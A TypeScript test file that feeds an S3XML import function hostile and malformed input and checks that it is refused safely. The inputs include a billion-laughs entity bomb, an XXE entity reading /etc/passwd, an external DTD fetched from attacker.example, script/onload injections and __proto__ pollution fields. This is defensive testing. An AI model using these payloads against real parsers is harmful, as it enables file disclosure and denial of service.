/**
 * Hostile and broken input to `receive`. Documents that cannot be trusted as a whole (DTDs and
 * entities, cut-off XML, HTML, empty input, another root) are refused with a typed codec error
 * (`S3XmlError` with a `code`, checked on `decodeS3Xml`) whose message `receive` returns with
 * status ERROR, and the store is byte-for-byte unchanged (a raw dump of every object store before
 * and after). Broken single records (invalid dates) are refused per record (WARNING) and change
 * nothing. Input Eden accepts (duplicate uuids, unknown elements and attributes, huge text) imports.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { decodeS3Xml, S3XmlError, type S3XmlErrorCode } from '../../src/core/s3xml/index.js';
import { receive, type ReceiveSource } from '../../src/engine/receive/receive.js';
import { fixtureText } from '../support/fixtures.js';
import { dumpStore, OFFICE, openStore, ORG, peer, s3xml, seed, type Opened } from './receive-support.js';

let opened: Opened;

/** A store with peer records, a component, a pending local edit and a conflict inbox entry. */
beforeEach(async () => {
  opened = await openStore('hostile');
  const { store } = opened;
  await seed(store, [
    peer(ORG, 'urn:uuid:h-1', { name: 'Alpha', acronym: 'ALP' }),
    peer(ORG, 'urn:uuid:h-2', { name: 'Beta' }),
    peer(OFFICE, 'urn:uuid:h-office', { name: 'Alpha HQ' }, { parent: { table: ORG, uuid: 'urn:uuid:h-1', alias: null } }),
  ]);
  await store.saveLocal(ORG, { uuid: 'urn:uuid:h-2', fields: { name: 'Beta (edited here)' } });
  const local = await store.get(ORG, 'urn:uuid:h-1');
  if (local === undefined) throw new Error('seed failed');
  await store.write((tx) =>
    tx.addConflicts([{ table: ORG, uuid: 'urn:uuid:h-1', kind: 'overwritten', local, incoming: local, detectedAt: '2024-01-01T00:00:00', source: 'seed', resolved: false }]),
  );
});
afterEach(() => opened.store.close());

function codeOf(text: string): S3XmlErrorCode | 'accepted' {
  try {
    decodeS3Xml(text);
    return 'accepted';
  } catch (error) {
    expect(error).toBeInstanceOf(S3XmlError);
    return (error as S3XmlError).code;
  }
}

function errorOf(text: string): S3XmlError {
  try {
    decodeS3Xml(text);
  } catch (error) {
    if (error instanceof S3XmlError) return error;
    throw error;
  }
  throw new Error('the document was accepted');
}

/** Receives a refused document: status ERROR with the codec's message, nothing changed. */
async function expectRefused(source: ReceiveSource | readonly ReceiveSource[], code: S3XmlErrorCode, mentions: RegExp): Promise<void> {
  const { store, clock } = opened;
  const before = await dumpStore(store);
  const outcome = await receive({ store, clock }, source, ORG, {});
  expect(outcome.status).toBe('error');
  expect(outcome.response.records).toBe(0);
  if (typeof source === 'string') {
    const error = errorOf(source);
    expect(error.code).toBe(code);
    expect(outcome.message).toBe(error.message);
  }
  expect(outcome.message ?? '').toMatch(mentions);
  expect((outcome.message ?? '').length).toBeLessThan(400);
  expect(await dumpStore(store)).toEqual(before);
}

const ORG_ELEMENT = `<resource name="${ORG}" uuid="urn:uuid:h-new" modified_on="2024-01-20T10:00:00"><data field="name">New</data></resource>`;

describe('DTDs and entities are refused before parsing (no expansion, no fetch)', () => {
  it('billion laughs', async () => {
    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const doc = `<?xml version="1.0"?>\n<!DOCTYPE s3xml [\n${lol.join('\n')}\n]>\n<s3xml><resource name="${ORG}" uuid="urn:uuid:h-new"><data field="name">&lol9;</data></resource></s3xml>`;
    await expectRefused(doc, 'doctype', /DOCTYPE/);
  });

  it('external entity (file:///etc/passwd, as in Eden EntityResolverTests)', async () => {
    const doc = `<?xml version="1.0"?>\n<!DOCTYPE s3xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<s3xml><resource name="${ORG}" uuid="urn:uuid:h-new"><data field="name">&xxe;</data></resource></s3xml>`;
    await expectRefused(doc, 'doctype', /DOCTYPE/);
  });

  it('parameter entity pulling an external DTD', async () => {
    const doc = `<?xml version="1.0"?>\n<!DOCTYPE s3xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n<s3xml>${ORG_ELEMENT}</s3xml>`;
    await expectRefused(doc, 'doctype', /DOCTYPE/);
  });

  it('a bare ENTITY declaration without DOCTYPE', async () => {
    await expectRefused(`<!ENTITY x "y"><s3xml>${ORG_ELEMENT}</s3xml>`, 'entity', /entity/i);
  });

  it('a reference to an undeclared entity', async () => {
    const doc = s3xml(`<resource name="${ORG}" uuid="urn:uuid:h-new"><data field="name">&xxe;</data></resource>`);
    await expectRefused(doc, 'entity', /entity/i);
  });
});

describe('documents that are not (whole) S3XML', () => {
  it('a real fixture cut in half', async () => {
    const full = fixtureText('03-pull-full/01-pull-org_organisation.response.xml');
    await expectRefused(full.slice(0, Math.floor(full.length / 2)), 'truncated', /truncated|ends unexpectedly/);
  });

  it('every cut of a small document is refused (never half-imported)', async () => {
    const doc = s3xml(ORG_ELEMENT);
    const start = doc.indexOf('<s3xml>');
    for (let cut = start + 1; cut < doc.length - 1; cut += 7) {
      expect(codeOf(doc.slice(0, cut)), `cut at ${cut}`).not.toBe('accepted');
    }
    await expectRefused(doc.slice(0, doc.length - 3), 'truncated', /truncated/);
  });

  it("Eden's HTML page passed as a source", async () => {
    await expectRefused(fixtureText('00-baseline/01-index-html.response.html'), 'doctype', /DOCTYPE/);
  });

  it("Eden's HTML error page (401 on register) passed as a source", async () => {
    const html = fixtureText('01-register/05-register-no-auth.response.html');
    const code = codeOf(html);
    expect(['doctype', 'not-s3xml', 'malformed', 'entity']).toContain(code);
    await expectRefused(html, code as S3XmlErrorCode, /./);
  });

  it('HTML without a DOCTYPE', async () => {
    await expectRefused('<html><body><h1>Internal Server Error</h1></body></html>', 'not-s3xml', /<s3xml>.*<html>/);
  });

  it('an empty string and blanks only', async () => {
    await expectRefused('', 'empty', /empty/);
    await expectRefused(' \n\t', 'empty', /empty/);
  });

  it('a non-s3xml root (Eden would import it: finding 2; decision 0009 refuses it)', async () => {
    await expectRefused(`<?xml version="1.0"?>\n<data>${ORG_ELEMENT}</data>`, 'not-s3xml', /root element is <data>/);
  });

  it('JSON instead of XML', async () => {
    await expectRefused('{"status": "success", "statuscode": "200"}', 'malformed', /not well-formed/);
  });

  it('bytes that are not UTF-8', async () => {
    const bytes = new TextEncoder().encode(s3xml(ORG_ELEMENT));
    bytes[bytes.length - 20] = 0xff;
    await expectRefused(bytes, 'malformed', /./);
  });

  it('one bad source among good ones: nothing of the good ones is imported', async () => {
    await expectRefused([s3xml(ORG_ELEMENT), '<s3xml><resource name="x"'], 'truncated', /truncated/);
    expect(await opened.store.get(ORG, 'urn:uuid:h-new')).toBeUndefined();
  });
});

describe('broken records: refused one by one, nothing changed', () => {
  it.each([['not a date'], ['2024-13-45T99:99:99'], ['2024-02-30T10:00:00'], ['']])('modified_on=%j', async (value) => {
    const { store, clock } = opened;
    const before = await dumpStore(store);
    const doc = s3xml(
      `<resource name="${ORG}" uuid="urn:uuid:h-new" modified_on="${value}"><data field="name">New</data></resource>`,
      `<resource name="${ORG}" uuid="urn:uuid:h-1" modified_on="${value}"><data field="name">Alpha renamed</data></resource>`,
    );
    const outcome = await receive({ store, clock }, doc, ORG, { updatePolicy: 'OTHER' });
    expect(outcome.status).toBe('warning');
    expect(outcome.message).toContain('modified_on');
    expect(outcome.response.records).toBe(0);
    expect(outcome.response.errors.map((error) => [error.uuid, error.field])).toEqual([
      ['urn:uuid:h-new', 'modified_on'],
      ['urn:uuid:h-1', 'modified_on'],
    ]);
    for (const error of outcome.response.errors) expect(error.message).toContain(JSON.stringify(value).slice(1, -1));
    expect(await dumpStore(store)).toEqual(before);
  });

  it('created_on="not a date" refuses the record too', async () => {
    const { store, clock } = opened;
    const before = await dumpStore(store);
    const doc = s3xml(`<resource name="${ORG}" uuid="urn:uuid:h-new" created_on="not a date"><data field="name">New</data></resource>`);
    const outcome = await receive({ store, clock }, doc, ORG, {});
    expect(outcome.status).toBe('warning');
    expect(outcome.message).toContain('created_on');
    expect(await dumpStore(store)).toEqual(before);
  });
});

describe('input Eden accepts', () => {
  it('duplicate uuids in one document: both imported and counted (finding 8), one record stored', async () => {
    const { store, clock } = opened;
    const doc = s3xml(
      `<resource name="${ORG}" uuid="urn:uuid:h-dup" modified_on="2024-01-20T10:00:00"><data field="name">First</data></resource>`,
      `<resource name="${ORG}" uuid="urn:uuid:h-dup" modified_on="2024-01-30T10:00:00"><data field="name">Second</data></resource>`,
    );
    const outcome = await receive({ store, clock }, doc, ORG, { updatePolicy: 'OTHER' });
    expect(outcome.status).toBe('success');
    expect(outcome.response.records).toBe(2);
    expect(outcome.response.mtime).toBe('2024-01-30T10:00:00');
    expect(await store.get(ORG, 'urn:uuid:h-dup')).toMatchObject({ fields: { name: 'Second' }, modified_on: '2024-01-30T10:00:00' });
    expect((await store.list(ORG)).filter((r) => r.uuid === 'urn:uuid:h-dup')).toHaveLength(1);
  });

  it('unknown elements and attributes are ignored', async () => {
    const { store, clock } = opened;
    const doc =
      `<?xml version="1.0"?><s3xml foo="bar" success="true"><meta><x/></meta>` +
      `<resource name="${ORG}" uuid="urn:uuid:h-new" modified_on="2024-01-20T10:00:00" colour="red" onload="alert(1)">` +
      `<blink>ignored</blink><data field="name" shade="dark">New</data><script>alert(1)</script></resource>` +
      `<!-- a comment --><?pi x?></s3xml>`;
    const outcome = await receive({ store, clock }, doc, ORG, {});
    expect(outcome.status).toBe('success');
    expect(outcome.response.created).toEqual(['urn:uuid:h-new']);
    const record = await store.get(ORG, 'urn:uuid:h-new');
    expect(record?.fields).toEqual({ name: 'New' });
  });

  it('a 50 MB text node imports intact, without hanging', async () => {
    const { store, clock } = opened;
    const big = 'x'.repeat(50 * 1024 * 1024);
    const doc = s3xml(`<resource name="${ORG}" uuid="urn:uuid:h-big" modified_on="2024-01-20T10:00:00"><data field="name">Big</data><data field="comments">${big}</data></resource>`);
    const outcome = await receive({ store, clock }, doc, ORG, {});
    expect(outcome.status).toBe('success');
    const comments = (await store.get(ORG, 'urn:uuid:h-big'))?.fields['comments'];
    expect(typeof comments === 'string' ? comments.length : -1).toBe(big.length);
  }, 60_000);
});

describe('names that collide with Object.prototype members', () => {
  it('a table named "toString" imports like any other table', async () => {
    const { store, clock } = opened;
    const doc = s3xml(`<resource name="toString" uuid="urn:uuid:h-ts"><data field="name">A</data></resource>`);
    const outcome = await receive({ store, clock }, doc, 'toString', {});
    expect(outcome.status).toBe('success');
    expect((await store.get('toString', 'urn:uuid:h-ts'))?.fields).toEqual({ name: 'A' });
  });

  it('a nested component table named "hasOwnProperty" imports without crashing', async () => {
    const { store, clock } = opened;
    const doc = s3xml(
      `<resource name="${ORG}" uuid="urn:uuid:h-hop"><data field="name">A</data><resource name="hasOwnProperty" uuid="urn:uuid:h-c"><data field="x">1</data></resource></resource>`,
    );
    const outcome = await receive({ store, clock }, doc, ORG, {});
    expect(outcome.status).toBe('success');
    expect(await store.get(ORG, 'urn:uuid:h-hop')).toBeDefined();
  });

  const protoDoc = (name: string, extra: string): string =>
    s3xml(`<resource name="${ORG}" uuid="urn:uuid:h-proto"><data field="name">${name}</data>${extra}</resource>`);

  it('data fields named "constructor" and "__proto__" are kept as data on create', async () => {
    const { store, clock } = opened;
    await receive({ store, clock }, protoDoc('A', '<data field="constructor">c</data><data field="__proto__" value="{&quot;polluted&quot;: 1}"/>'), ORG, {});
    const record = await store.get(ORG, 'urn:uuid:h-proto');
    expect(Object.keys(record?.fields ?? {}).sort()).toEqual(['__proto__', 'constructor', 'name']);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('a data field named "__proto__" that arrives in an update is kept as data', async () => {
    const { store, clock } = opened;
    await receive({ store, clock }, protoDoc('A', ''), ORG, {});
    const outcome = await receive({ store, clock }, protoDoc('B', '<data field="__proto__" value="{&quot;polluted&quot;: 1}"/>'), ORG, { updatePolicy: 'OTHER' });
    expect(outcome.status).toBe('success');
    const record = await store.get(ORG, 'urn:uuid:h-proto');
    expect(record?.fields['name']).toBe('B');
    expect(Object.keys(record?.fields ?? {}).sort()).toEqual(['__proto__', 'name']);
  });

  it('a reference whose field is "__proto__" is kept on create', async () => {
    const { store, clock } = opened;
    const doc = s3xml(
      `<resource name="${ORG}" uuid="urn:uuid:h-ref"><data field="name">A</data><reference field="__proto__" resource="${ORG}" uuid="urn:uuid:h-1"/></resource>`,
    );
    const outcome = await receive({ store, clock }, doc, ORG, {});
    expect(outcome.status).toBe('success');
    const record = await store.get(ORG, 'urn:uuid:h-ref');
    expect(Object.keys(record?.references ?? {})).toEqual(['__proto__']);
  });
});

describe('nesting', () => {
  it('inline references nested beyond the codec limit are refused, nothing changed', async () => {
    let open = `<resource name="${ORG}" uuid="urn:uuid:d0"><data field="name">d</data>`;
    let close = '</resource>';
    for (let i = 1; i < 200; i++) {
      open += `<reference field="parent" resource="${ORG}"><resource name="${ORG}" uuid="urn:uuid:d${i}"><data field="name">d</data>`;
      close = `</resource></reference>${close}`;
    }
    await expectRefused(s3xml(open + close), 'malformed', /nesting deeper than/);
  });
});
